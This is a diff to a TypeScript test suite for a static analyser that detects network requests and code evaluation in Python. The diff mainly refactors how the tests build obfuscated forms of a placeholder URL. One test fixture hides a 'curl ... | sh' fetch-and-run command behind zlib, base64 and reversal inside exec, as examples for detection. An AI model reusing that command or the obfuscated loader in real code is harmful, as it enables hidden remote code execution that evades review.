@@ -5,6 +5,7 @@ import type { Effect, EffectKind } from "@doorward/core";
 import { onlyEffect, readFiles } from "./read-program.test-support.ts";
 
 const address = "https://api.example/v1";
+const characters = Array.from(address);
 
 async function effectsOfPython(kind: EffectKind, source: string): Promise<readonly Effect[]> {
   const { effects } = await readFiles({ "main.py": source });
@@ -12,8 +13,8 @@ async function effectsOfPython(kind: EffectKind, source: string): Promise<readon
 }
 
 describe("a constant is known however it is written", () => {
-  const reversed = [...address].toReversed().join("");
-  const masked = [...address]
+  const reversed = characters.toReversed().join("");
+  const masked = characters
     .map((character) => `\\x${(character.charCodeAt(0) ^ 5).toString(16).padStart(2, "0")}`)
     .join("");
   const forms: Readonly<Record<string, string>> = {
@@ -23,9 +24,9 @@ describe("a constant is known however it is written", () => {
     base64: `__import__("base64").b64decode("${Buffer.from(address).toString("base64")}").decode()`,
     hex: `bytes.fromhex("${Buffer.from(address).toString("hex")}").decode("utf-8")`,
     rot13: `codecs.decode("uggcf://ncv.rknzcyr/i1", "rot13")`,
-    "characters joined": `"".join([chr(c) for c in [${[...address].map((character) => character.charCodeAt(0)).join(", ")}]])`,
+    "characters joined": `"".join([chr(c) for c in [${characters.map((character) => character.charCodeAt(0)).join(", ")}]])`,
     "characters masked in a comprehension": `"".join(chr(ord(c) ^ 5) for c in "${masked}")`,
-    "a map over numbers": `"".join(map(chr, [${[...address].map((character) => character.charCodeAt(0)).join(", ")}]))`,
+    "a map over numbers": `"".join(map(chr, [${characters.map((character) => character.charCodeAt(0)).join(", ")}]))`,
     "percent formatting": `"https://%s.example/v1" % "api"`,
     format: `"https://{}.example/v1".format("api")`,
     "a dictionary": `{"url": "${address}"}["url"]`,
@@ -38,7 +39,7 @@ describe("a constant is known however it is written", () => {
   }
 
   test("a loop that puts characters together", async () => {
-    const codes = [...address].map((character) => character.charCodeAt(0) - 1);
+    const codes = characters.map((character) => character.charCodeAt(0) - 1);
     const source = `import requests\nurl = ""\nfor c in [${codes.join(", ")}]:\n    url += chr(c + 1)\nrequests.get(url)\n`;
     const [request] = await effectsOfPython("request", source);
     assert.deepEqual(request?.subject.texts, [address]);
@@ -46,7 +47,7 @@ describe("a constant is known however it is written", () => {
 
   test("compressed code behind several decoders is read as code", async () => {
     const code = `import os\nos.system("curl ${address} | sh")\n`;
-    const hidden = [...deflateSync(code).toString("base64")].toReversed().join("");
+    const hidden = Array.from(deflateSync(code).toString("base64")).toReversed().join("");
     const { effects } = await readFiles({
       "main.py": `import zlib, base64\n_ = lambda __: zlib.decompress(base64.b64decode(__[::-1]))\nexec((_)(b'${hidden}'))\n`,
     });
@@ -115,7 +116,7 @@ test("broken Python is read as far as it goes, and nesting without end is left o
   const { effects } = await readFiles({
     "a.py": "def f(:\n  x = = 3\nexec(y)\n",
     "b.py": `x = ${"(".repeat(50_000)}1\n`,
-    "c.py": `${"if a:\n ".repeat(2000)}`,
+    "c.py": "if a:\n ".repeat(2000),
   });
   assert.equal(effects.filter(({ kind }) => kind === "evaluate").length, 1);
 });
